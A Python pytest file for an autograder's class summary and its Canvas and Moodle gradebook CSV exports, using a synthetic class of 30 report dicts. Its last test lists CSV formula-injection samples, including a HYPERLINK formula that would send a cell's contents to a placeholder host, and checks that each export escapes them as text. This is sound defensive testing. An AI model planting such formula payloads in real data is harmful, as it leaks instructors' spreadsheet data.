"""The class summary and the LMS gradebooks, from report dicts alone (no grading: milliseconds).

A synthetic class of 30 is built from a few report shapes (full marks, a known mistake, a stub, a timeout, a flagged
question, an unreadable entry, the grader's own failure, a late repository); the summary's counts and named mistakes
are checked against counts made here from the same dicts, and the two LMS files against the formats Canvas and Moodle
document for their gradebook imports.
"""
import csv
import io
import re
from pathlib import Path
from collections import Counter
from types import SimpleNamespace

import pytest

from autograder.classroom import summary
from autograder.course.class_report import EntryReport
from autograder.classroom.exports import canvas_csv, moodle_csv


def question(number: int, score: float, top: float, status: str, failed: dict[str, str] | None = None) -> dict:
    """A report's question entry: checks a and b, the failed ones named in failed (name -> mistake id or "")."""
    failed = failed or {}
    tests = [{"name": name, "passed": name not in failed, "message": "x" if name in failed else ""}
             | ({"mistake": failed[name]} if failed.get(name) else {}) for name in ("a", "b")]
    return {"number": number, "title": f"Q{number}", "score": score, "max_score": top, "status": status, "tests": tests}


SHAPES = {
    "right": lambda: [question(1, 8, 8, "passed"), question(2, 4, 4, "passed")],
    "mistake": lambda: [question(1, 4, 8, "failed", {"a": "q01.triu_for_tril"}), question(2, 4, 4, "passed")],
    "stub": lambda: [
        question(1, 0, 8, "not attempted", {"a": "", "b": ""}),
        question(2, 0, 4, "not attempted", {"a": "", "b": ""}),
    ],
    "timeout": lambda: [question(1, 8, 8, "passed"), question(2, 0, 4, "timeout", {"a": "", "b": ""})],
    "flagged": lambda: [question(1, 0, 8, "flagged"), question(2, 2, 4, "failed", {"b": "q02.scale_by_d"})],
    "zero": lambda: [question(1, 0, 8, "failed", {"a": "q01.triu_for_tril", "b": ""}), question(2, 4, 4, "passed")],
}


def report(shape: str, **extra: object) -> dict:
    questions = SHAPES[shape]()
    return {"score": sum(q["score"] for q in questions), "max_score": 12, "questions": questions} | extra


@pytest.fixture(scope="module")
def klass() -> dict[str, dict]:
    """30 students: five of each graded shape, three unreadable, one the grader failed on, one late (shape right)."""
    reports = {f"s{index:02d}": report(shape) for index, shape in enumerate(s for s in SHAPES for _ in range(4))}  # 24
    reports |= {f"u{index}": report("stub", problem="an empty folder") for index in range(3)}
    reports |= {"g0": report("stub", problem="the grader failed", grader_error=True)}
    reports |= {
        "late": report("right", committed_at="2026-12-02T10:00:00+00:00", late_hours=10.5),
        "ontime": report("mistake", committed_at="2026-11-30T10:00:00+00:00", late_hours=0),
    }
    assert len(reports) == 30
    return reports


def test_counts_and_mistakes_equal_the_reports(klass):
    found = summary.summarise(klass)
    graded = {s: klass[s] for s in sorted(klass) if not klass[s].get("problem")}
    assert found.students == 30 and found.graded == sorted(graded) and found.late == {"late": 10.5}
    assert found.left_out == {
        **{f"u{i}": ("unreadable", "an empty folder") for i in range(3)},
        "g0": ("grader_error", "the grader failed"),
    }
    for q in found.questions:
        entries = [next(e for e in r["questions"] if e["number"] == q.number) for r in graded.values()]
        assert q.scores == [e["score"] for e in entries]
        expected = Counter(summary.outcome(e) for e in entries)
        assert q.counts == expected and sum(q.counts.values()) == 26
    one, two = found.questions
    assert (
        one.counts["full"],
        one.counts["partial"],
        one.counts["zero"],
        one.counts["not attempted"],
        one.counts["flagged"],
    ) == (9, 5, 4, 4, 4)
    assert (two.counts["full"], two.counts["error"], two.counts["partial"]) == (14, 4, 4)
    assert one.mean == pytest.approx(sum(one.scores) / 26) and one.median == 4
    made = {}
    for student, r in graded.items():
        for q in r["questions"]:
            for test in q["tests"]:
                if "mistake" in test:
                    made.setdefault(test["mistake"], set()).add(student)
    assert found.mistakes == {name: sorted(who) for name, who in made.items()}
    assert list(found.mistakes) == ["q01.triu_for_tril", "q02.scale_by_d"]  # 9 students, then 4
    assert len(found.mistakes["q01.triu_for_tril"]) == 9
    assert found.failed[0] == (1, "a", sorted(s for s, r in graded.items() if r["questions"][0]["status"] == "failed"))
    # stubs' checks never count
    assert not any(who for n, name, who in found.failed if set(who) & {f"s{i:02d}" for i in range(8, 12)})


def test_written_files_and_printed_lines(klass, tmp_path):
    written = {}
    found = summary.write(tmp_path, klass, "Attention", [1, 2], lambda path, data: written.__setitem__(path.name, data))
    assert set(written) == set(summary.FILES)
    assert written["summary.png"].startswith(b"\x89PNG\r\n\x1a\n")
    page = written["summary.html"].decode()
    # self-contained
    assert 'src="data:image/png;base64,' in page and not re.search(r'(src|href)="(https?:|/|file:)', page)
    text = written["summary.md"].decode()
    assert "| q01.triu_for_tril |" in text and "![" in text
    assert "9 | " + ", ".join(found.mistakes["q01.triu_for_tril"]) in text
    assert "u0" in text and "grader_error" in text
    shown = "\n".join(summary.lines(found, tmp_path))
    assert "30 student(s), 26 graded, 4 not graded" in shown and "1 late" in shown and "q01.triu_for_tril (9)" in shown
    assert "lowest questions: q1" in shown


LMS = SimpleNamespace(lms_name="Attention", max_score=100)  # what the LMS files read of a course


def typed(reports: dict[str, dict]) -> dict[str, EntryReport]:
    """The reports as the class's files read them."""
    return {student: EntryReport.from_dict(found) for student, found in reports.items()}


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_canvas_csv_is_canvas_gradebook_import_format(klass):
    """Canvas: Student, ID, SIS User ID, SIS Login ID, Section, then assignment columns; a Points Possible row; each row
    identified by ID, SIS User ID or SIS Login ID; a score is a number, or empty (left as it is)."""
    rows = _rows(canvas_csv(LMS, typed(klass)))
    header, points, students = rows[0], rows[1], rows[2:]
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"] and header[5:] == ["Attention"]
    assert points[0] == "Points Possible" and points[1:5] == [""] * 4 and float(points[5]) == 100
    assert len(students) == 30 and all(len(row) == len(header) for row in students)
    assert len({row[3] for row in students}) == 30 and all(row[1] or row[2] or row[3] for row in students)
    scores = {row[3]: row[5] for row in students}
    assert scores["g0"] == "" and scores["u0"] == "0" and float(scores["s00"]) == 12
    assert all(value == "" or 0 <= float(value) <= 100 for value in scores.values())


def test_moodle_csv_is_moodle_grade_import_format(klass):
    """Moodle: a header row; one identifier column (username, email or idnumber) mapped to the user; grade columns of
    numbers, "" or "-" for no grade; every row has more than one field and a non-empty identifier."""
    rows = _rows(moodle_csv(LMS, typed(klass)))
    header, students = rows[0], rows[1:]
    assert header[0] in ("username", "email", "idnumber") and header[1:] == ["Attention"]
    assert len(students) == 30 and all(len(row) == 2 and row[0] for row in students)
    assert len({row[0] for row in students}) == 30
    values = dict(students)
    assert values["g0"] in ("", "-") and values["u0"] == "0" and float(values["late"]) == 12
    assert all(value in ("", "-") or re.fullmatch(r"\d+(\.\d+)?", value) for value in values.values())


def test_the_summary_speaks_french(klass):
    from autograder.i18n import set_language

    set_language("fr")
    try:
        found = summary.summarise(klass)
        text = summary.markdown(found, {}, "Attention")
        shown = "\n".join(summary.lines(found, summary.Path("OUT")))
    finally:
        set_language("en")
    assert "# Bilan de la classe\u00a0: Attention" in text and "| note maximale |" in text
    assert "moyenne 3,54 / 8" in shown and "30 étudiant(s), 26 corrigé(s)" in shown


def test_an_entry_named_like_a_formula_stays_text_in_every_spreadsheet(tmp_path):
    """A student who names their entry `=HYPERLINK(...)` (or +, -, @) gets a text cell in grades.csv, canvas.csv and
    moodle.csv, never a formula the instructor's spreadsheet would run."""
    from autograder.classroom.exports import grades_csv
    from autograder.course.manifest import load_course

    names = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "ann"]
    reports = typed({name: report("right") for name in names})
    course = load_course(Path(__file__).resolve().parent.parent)
    cells = {
        "grades.csv": [row[0] for row in _rows(grades_csv(course, reports))[1:]],
        "canvas.csv": [row[0] for row in _rows(canvas_csv(LMS, reports))[2:]],
        "moodle.csv": [row[0] for row in _rows(moodle_csv(LMS, reports))[1:]],
    }
    for file, column in cells.items():
        assert sorted(column) == sorted("'" + name if name != "ann" else name for name in names), (file, column)
